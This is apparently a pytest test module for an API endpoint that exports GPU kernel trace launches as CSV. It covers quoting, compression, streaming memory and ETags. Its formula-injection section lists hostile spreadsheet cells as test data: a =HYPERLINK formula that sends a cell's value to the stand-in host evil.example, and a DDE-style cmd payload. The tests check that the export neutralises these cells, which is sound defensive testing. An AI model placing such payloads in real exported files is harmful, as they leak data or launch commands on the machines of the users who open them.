"""`GET /api/traces/{trace_id}/kernels.csv`: a trace's launches as CSV for pandas.

The contract, as these tests check it:
- a header row, then one row per launch of the JSON detail, in its order: the detail's keys with
  grid and block unfolded, `traced` as true/false, an empty field for null (and for `device`,
  `stream` outside the device-id fork). Parsed by Python's csv module, the CSV equals the detail
  launch for launch, on real tracer output ingested from the bucket and on names with commas,
  quotes and line breaks;
- gzip and zstd as the detail: decoded, the same bytes; streamed in bounded memory;
- the detail's ETag rules (a 304 on If-None-Match, without reading a kernel), an ETag of its own;
- `text/csv; charset=utf-8`, `Content-Disposition: attachment; filename="<trace_id>.csv"`; errors
  in JSON (401 and 404 as every route's: tests/traces/test_endpoint_battery.py).
"""

import csv
import io
from pathlib import Path

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.passes import poll_bucket
from tests.helpers import (
    content,
    decompress,
    ingested,
    kernel_row,
    shared_fixture,
    store_kernels,
    streamed_peak,
)
from traces import encoders, services
from traces.models import Trace, TraceState

HEADER = (
    "ctx,kernel_id,name,trace_file,grid_x,grid_y,grid_z,block_x,block_y,block_z,blocks,threads,"
    "total_insts,total_reported_insts,traced,device,stream,step,duration_ns"
).split(",")
SAMPLE = Path(__file__).resolve().parents[2] / "samples" / "sample__facebook_opt-125m__a100-e2e"


def field(value) -> str:
    """What the CSV says for a JSON value: empty for null, true/false, numbers and text as written."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def expected_rows(kernel: dict) -> list[str]:
    """A detail's kernel object as the CSV's row, written from the documented columns."""
    values = [
        kernel["ctx"],
        kernel["kernel_id"],
        kernel["name"],
        kernel["trace_file"],
        *kernel["grid_dim"],
        *kernel["block_dim"],
        kernel["blocks"],
        kernel["threads"],
        kernel["total_insts"],
        kernel["total_reported_insts"],
        kernel["traced"],
        kernel.get("device_id"),
        kernel.get("stream_id"),
        kernel["step"],
        kernel["duration_ns"],
    ]
    return [field(value) for value in values]


def csv_rows(text: str | bytes) -> list[list[str]]:
    """Every row of a CSV, the header first, as Python's csv module reads it."""
    return list(csv.reader(io.StringIO(text.decode() if isinstance(text, bytes) else text, newline="")))


def encoded(row: tuple, **options) -> dict[str, str]:
    """The one launch `encoders.encode_kernels_csv` writes for `row`, by column."""
    (written,) = csv_rows(b"".join(encoders.encode_kernels_csv(iter([row]), **options)))[1:]
    return dict(zip(HEADER, written, strict=True))


def ready_with(make_trace, trace_id: str, rows: list[tuple]) -> Trace:
    """A ready trace of these launches (KERNEL_COLUMNS tuples), counted."""
    trace = make_trace(trace_id, state=TraceState.READY)
    store_kernels(trace.pk, [dict(zip(HEADER, row, strict=True)) for row in rows])
    Trace.objects.filter(pk=trace.pk).update(kernel_count=len(rows))
    return trace


def assert_csv_is_the_detail(api, trace_id: str) -> list[list[str]]:
    detail = orjson.loads(content(api.get(f"/api/traces/{trace_id}")))
    response = api.get(f"/api/traces/{trace_id}/kernels.csv")
    assert response.status_code == 200
    rows = csv_rows(content(response))
    assert rows[0] == HEADER
    assert len(rows) - 1 == len(detail["kernels"]) == detail["kernel_count"]
    for row, kernel in zip(rows[1:], detail["kernels"], strict=True):
        assert row == expected_rows(kernel), kernel
    return rows


REAL_RUNS = {
    "liuweibupt-cutlass": {
        "traces/stats_ctx_0x56201b8d3c00": "liuweibupt+accel-sim-framework__modal__artifacts__fp16-512x512x512__traces__stats_ctx_0x56201b8d3c00",
        "traces/kernelslist_ctx_0x56201b8d3c00": "liuweibupt+accel-sim-framework__modal__artifacts__fp16-512x512x512__traces__kernelslist_ctx_0x56201b8d3c00",
    },
    "qishao-memcpy": {
        "traces/stats_ctx_0x2356c30": "qishao-chalmers+accel-sim-framework__util__tracer_nvbit__traces__traces__stats_ctx_0x2356c30",
        "traces/kernelslist_ctx_0x2356c30": "qishao-chalmers+accel-sim-framework__util__tracer_nvbit__traces__traces__kernelslist_ctx_0x2356c30",
    },
    "flashinfer-killed": {
        "traces/stats.csv": "MrTang-Yuhan+Accel-Sim-Flashinfer__test-traces__flashinfer-gemm__traces__stats.csv",
        "traces/kernelslist.g": "MrTang-Yuhan+Accel-Sim-Flashinfer__test-traces__flashinfer-gemm__traces__kernelslist.g",
    },
    "nn-onestep-legacy": {
        "traces/stats.csv": "MrTang-Yuhan+Accel-Sim-Flashinfer__test-traces__nn-onestep__traces__stats.csv",
        "traces/kernelslist.g": "MrTang-Yuhan+Accel-Sim-Flashinfer__test-traces__nn-onestep__traces__kernelslist.g",
    },
}


@pytest.mark.parametrize("run_id", sorted(REAL_RUNS))
def test_real_tracer_output_equals_the_detail(api, upload, db, run_id):
    real = {
        name: shared_fixture("real-tracer", source).read_bytes() for name, source in REAL_RUNS[run_id].items()
    }
    upload(run_id, real, metadata={"status": "ok"})
    poll_bucket()
    assert Trace.objects.get(pk=run_id).state == TraceState.READY
    assert len(assert_csv_is_the_detail(api, run_id)) >= 2  # the header and a launch at least


def test_the_sample_with_steps_timing_and_two_contexts_equals_the_detail(api, upload, db):
    files = {
        str(path.relative_to(SAMPLE)): path.read_bytes()
        for path in SAMPLE.rglob("*")
        if path.is_file() and path.name != "metadata.json" and not path.name.endswith(".trace.xz")
    }
    upload("sample", files, metadata={"status": "ok"})
    poll_bucket()
    assert Trace.objects.get(pk="sample").has_step_timeline
    rows = assert_csv_is_the_detail(api, "sample")
    assert {row[0] for row in rows[1:]} == {"0x6e3645807110", "0x6feef5668740"}
    assert all(row[HEADER.index("step")] for row in rows[1:])
    assert any(row[HEADER.index("duration_ns")] for row in rows[1:])


NAMES = [
    "void gemm<float, 128, 64>(float const*, int)",
    'kernel "quoted" name',
    "a name\nover two lines",
    "a name with a \r carriage return",
    "trailing comma,",
    '",\n"',
    "ünïcode ∑ kernel",
]


@pytest.fixture
def awkward(make_trace):
    """Names with commas, quotes and line breaks; null totals; the device fork (a null stream)."""
    return ready_with(
        make_trace,
        'awk,ward "id"',
        [
            *(kernel_row(n + 1, name=name, traced=n % 2 == 0) for n, name in enumerate(NAMES)),
            kernel_row(100, insts=None, ctx=None),
            kernel_row(1, ctx="0x2", device=0, stream=7),
            kernel_row(1, ctx="0x2", device=1, stream=None),
        ],
    )


def test_names_with_commas_quotes_and_line_breaks_equal_the_detail(api, awkward):
    rows = assert_csv_is_the_detail(api, awkward.pk)
    assert sorted(row[2] for row in rows[1:] if row[2] in NAMES) == sorted(NAMES)
    forked = [row for row in rows[1:] if row[0] == "0x2"]
    assert [(row[15], row[16]) for row in forked] == [("0", "7"), ("1", "")]


def test_quoted_as_pythons_csv_module_writes_it(api, awkward):
    body = content(api.get(f"/api/traces/{awkward.pk}/kernels.csv"))
    detail = orjson.loads(content(api.get(f"/api/traces/{awkward.pk}")))
    written = io.StringIO()
    writer = csv.writer(written)
    writer.writerow(HEADER)
    writer.writerows(expected_rows(kernel) for kernel in detail["kernels"])
    assert body == written.getvalue().encode()


def test_headers_of_a_download(api, awkward):
    response = api.get(f"/api/traces/{awkward.pk}/kernels.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="awk,ward \\"id\\".csv"'
    assert response["Cache-Control"] == "private, no-cache"
    assert "Accept-Encoding" in response["Vary"]


def test_a_name_that_is_not_ascii_is_encoded_as_rfc_6266_says(api, make_trace):
    make_trace("ü run", state=TraceState.READY)
    response = api.get("/api/traces/ü run/kernels.csv")
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%C3%BC%20run.csv"


@pytest.mark.parametrize("accept", ["text/csv", "text/html", "application/json", "*/*"])
def test_csv_whatever_accept_says_and_errors_in_json(api, awkward, accept):
    response = api.get(f"/api/traces/{awkward.pk}/kernels.csv", HTTP_ACCEPT=accept)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    missing = api.get("/api/traces/nope/kernels.csv", HTTP_ACCEPT=accept)
    assert missing.status_code == 404
    assert missing["Content-Type"] == "application/json"


def test_a_trace_not_ready_has_the_header_alone(api, make_trace, make_kernels):
    trace = make_trace("arriving")
    make_kernels(trace, [1, 2])  # stored, but an uploading trace serves none, as the detail
    body = content(api.get("/api/traces/arriving/kernels.csv"))
    assert body == (",".join(HEADER) + "\r\n").encode()


TEXT = st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"))


@given(
    st.lists(
        st.tuples(
            st.none() | TEXT,  # ctx
            st.integers(0, 2**63 - 1),
            TEXT,  # name
            TEXT,  # trace_file
            st.lists(st.integers(0, 2**31 - 1), min_size=8, max_size=8),
            st.none() | st.integers(0, 2**64),  # total_insts, total_reported_insts
            st.booleans(),
            st.sampled_from([(-1, None), (0, None), (3, 7)]),  # (device, stream)
            st.none() | TEXT,  # step
            st.none() | st.integers(0, 2**63 - 1),
        ),
        max_size=5,
    )
)
def test_the_bytes_are_what_csv_writer_writes(launches):
    """Any text (commas, quotes, CR, LF, unicode) as Python's csv module writes it, written
    here from the columns' rules: None empty, true/false, no device outside the fork."""
    rows = [
        (ctx, kernel_id, name, trace_file, *dims, insts, insts, traced, device, stream, step, duration)
        for ctx, kernel_id, name, trace_file, dims, insts, traced, (
            device,
            stream,
        ), step, duration in launches
    ]
    written = io.StringIO()
    writer = csv.writer(written)
    writer.writerow(HEADER)
    for row in rows:
        forked = row[15] != -1
        writer.writerow(
            [
                *row[:14],
                "true" if row[14] else "false",
                row[15] if forked else None,
                row[16] if forked else None,
                *row[17:],
            ]
        )
    assert b"".join(encoders.encode_kernels_csv(iter(rows), raw=True)) == written.getvalue().encode()


# --- formula cells -----------------------------------------------------------------

# OWASP's CSV injection rule, written here from its text: a cell that begins with one of these
# is prefixed with a single quote; any other cell is left as it is.
OWASP_STARTS = ["=", "+", "-", "@", "\t", "\r"]
CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "plain =not at the start",
    "_Z6vecAddPdS_S_i",
    "'already quoted",
]


def owasp(cell: str) -> str:
    return "'" + cell if cell[:1] in OWASP_STARTS else cell


@pytest.mark.parametrize("cell", CELLS)
def test_every_text_cell_that_would_start_a_formula_gets_a_leading_quote(cell):
    # ctx, name, trace_file and step all hold the cell; the numbers are negative where a
    # column can be, and stay numbers.
    row = (cell, 1, cell, cell, 1, 1, 1, 32, 1, 1, 1, 32, -5, -5, False, 0, -1, cell, -7)
    by_column = encoded(row)
    for column in ("ctx", "name", "trace_file", "step"):
        assert by_column[column] == owasp(cell), column
    assert [by_column[c] for c in ("total_insts", "total_reported_insts", "stream", "duration_ns")] == [
        "-5",
        "-5",
        "-1",
        "-7",
    ]
    assert encoded(row, raw=True)["name"] == cell


@given(st.text(max_size=30))
def test_any_text_cell_reads_back_as_the_owasp_rule_says(text):
    row = (text, 1, text, text, 1, 1, 1, 32, 1, 1, 1, 32, 5, 5, False, -1, None, text, 7)
    by_column = encoded(row)
    assert [by_column[c] for c in ("ctx", "name", "trace_file", "step")] == [owasp(text)] * 4


@pytest.fixture
def formulas(make_trace):
    return ready_with(
        make_trace,
        "formulas",
        [kernel_row(n + 1, name=cell, ctx="=0x1" if n % 2 else "0x1") for n, cell in enumerate(CELLS)],
    )


def test_the_download_neutralises_formulas_and_raw_1_gives_the_detail(api, formulas):
    response = api.get("/api/traces/formulas/kernels.csv")
    rows = csv_rows(content(response))[1:]
    assert {int(row[1]): row[2] for row in rows} == {n: owasp(cell) for n, cell in enumerate(CELLS, 1)}
    assert {row[0] for row in rows} == {"0x1", "'=0x1"}
    raw = api.get("/api/traces/formulas/kernels.csv?raw=1")
    assert raw.status_code == 200
    assert raw["ETag"] != response["ETag"], "two representations, two ETags"
    raw_rows = csv_rows(content(raw))[1:]
    detail = orjson.loads(content(api.get("/api/traces/formulas")))
    assert raw_rows == [expected_rows(kernel) for kernel in detail["kernels"]]
    assert api.get("/api/traces/formulas/kernels.csv?raw=0")["ETag"] == response["ETag"]


def test_raw_is_0_or_1(api, formulas):
    response = api.get("/api/traces/formulas/kernels.csv?raw=yes")
    assert response.status_code == 400
    assert response.json()["detail"] == "raw must be 0 or 1, not 'yes'"


def test_a_spreadsheet_opens_the_formulas_as_text(api, formulas, tmp_path):
    """The outside check: LibreOffice converts the download to CSV again; a formula it ran
    would come back as its value, text comes back as written."""
    import shutil
    import subprocess

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip(
            "needs LibreOffice (soffice) for the outside check; the OWASP rule is tested cell by cell"
        )

    def opened(query: str) -> list[str]:
        """The names as LibreOffice reads the download (line breaks within a cell as LF)."""
        folder = tmp_path / (query or "neutralised")
        folder.mkdir()
        (folder / "in.csv").write_bytes(content(api.get(f"/api/traces/formulas/kernels.csv{query}")))
        subprocess.run(
            [
                soffice,
                "--headless",
                "--convert-to",
                "csv",
                "--outdir",
                str(folder / "out"),
                str(folder / "in.csv"),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )
        rows = csv_rows((folder / "out" / "in.csv").read_text())[1:]
        return sorted(row[2] for row in rows)

    as_text = sorted(cell.replace("\r", "\n").lstrip("'") for cell in CELLS)
    assert sorted(cell.lstrip("'") for cell in opened("")) == as_text
    # The check can fail: the raw text, opened, runs its formulas (=HYPERLINK shows "click", -2+3 is 1).
    assert sorted(cell.lstrip("'") for cell in opened("?raw=1")) != as_text


# --- a large trace: chunks, codings, memory -----------------------------------------------------------


def ingest(trace_id: str, count: int) -> Trace:
    """A ready trace of `count` launches whose names a CSV quotes (a comma in each)."""
    return ingested(
        trace_id,
        (
            kernel_row(n, ctx="0x1", name=f"k<{n % 7}, int>", insts=n, traced=n % 3 == 0)
            for n in range(1, count + 1)
        ),
    )


def test_a_large_trace_streams_in_chunks_and_equals_the_detail(api, db):
    ingest("large", 7001)
    response = api.get("/api/traces/large/kernels.csv")
    assert response.streaming
    assert not response.has_header("Content-Length")
    assert len(list(response.streaming_content)) > 3  # the header and rows a chunk at a time
    assert_csv_is_the_detail(api, "large")


@pytest.mark.parametrize("coding", ["gzip", "zstd"])
def test_gzip_and_zstd_decode_to_the_same_bytes(api, db, coding):
    ingest("large", 7001)
    plain = content(api.get("/api/traces/large/kernels.csv"))
    response = api.get("/api/traces/large/kernels.csv", HTTP_ACCEPT_ENCODING=coding)
    assert response["Content-Encoding"] == coding
    compressed = content(response)
    assert len(compressed) < len(plain) / 5
    assert decompress(compressed, coding) == plain


def test_accept_encoding_chooses_as_for_the_detail(api, db):
    ingest("large", 10)
    for header, coding in [("gzip, zstd", "zstd"), ("gzip", "gzip"), ("zstd;q=0, gzip", "gzip"), ("", None)]:
        response = api.get("/api/traces/large/kernels.csv", HTTP_ACCEPT_ENCODING=header)
        detail = api.get("/api/traces/large", HTTP_ACCEPT_ENCODING=header)
        assert response.get("Content-Encoding") == detail.get("Content-Encoding") == coding


def peak_while_streaming(api, trace_id: str) -> tuple[int, int]:
    """(CSV bytes streamed, peak of Python allocations meanwhile), zstd on the wire."""
    return streamed_peak(api.get(f"/api/traces/{trace_id}/kernels.csv", HTTP_ACCEPT_ENCODING="zstd"), "zstd")


def test_memory_stays_at_a_chunk(api, db):
    ingest("ten", 10_000)
    ingest("forty", 40_000)
    ten_bytes, ten_peak = peak_while_streaming(api, "ten")
    forty_bytes, forty_peak = peak_while_streaming(api, "forty")
    assert forty_bytes > 3.5 * ten_bytes
    # A chunk of launches at a time, whatever the trace's size: 4x the launches, not 4x the memory.
    assert forty_peak < 1.5 * ten_peak, (ten_peak, forty_peak)


# --- ETags -----------------------------------------------------------------------------------------------


def test_etag_and_304_as_the_detail(api, db, django_assert_num_queries):
    trace = ingest("large", 10)
    response = api.get("/api/traces/large/kernels.csv", HTTP_ACCEPT_ENCODING="gzip")
    etag = response["ETag"]
    assert etag.startswith('"') and etag.endswith('-gzip"')
    assert etag != api.get("/api/traces/large", HTTP_ACCEPT_ENCODING="gzip")["ETag"]
    plain_etag = api.get("/api/traces/large/kernels.csv")["ETag"]
    assert plain_etag == etag.replace("-gzip", "")
    with django_assert_num_queries(2):  # the token, the trace's updated_at: no kernel read
        again = api.get("/api/traces/large/kernels.csv", HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304
    assert again.content == b""
    assert again["ETag"] == plain_etag
    # Any coding of the current digest, weak or in a list, matches; the detail's does not.
    assert api.get("/api/traces/large/kernels.csv", HTTP_IF_NONE_MATCH=f'"x", W/{etag}').status_code == 304
    detail_etag = api.get("/api/traces/large")["ETag"]
    assert api.get("/api/traces/large/kernels.csv", HTTP_IF_NONE_MATCH=detail_etag).status_code == 200
    # A change of the trace changes it.
    services.traces_mark_sample([trace.pk])
    assert api.get("/api/traces/large/kernels.csv", HTTP_IF_NONE_MATCH=etag).status_code == 200
    assert api.get("/api/traces/large/kernels.csv")["ETag"] != plain_etag


def test_head_reads_no_kernel(api, db, django_assert_num_queries):
    ingest("large", 10)
    get = api.get("/api/traces/large/kernels.csv")
    with django_assert_num_queries(2):
        head = api.head("/api/traces/large/kernels.csv")
    assert head.status_code == 200
    assert head["ETag"] == get["ETag"]
    assert head["Content-Type"] == "text/csv; charset=utf-8"
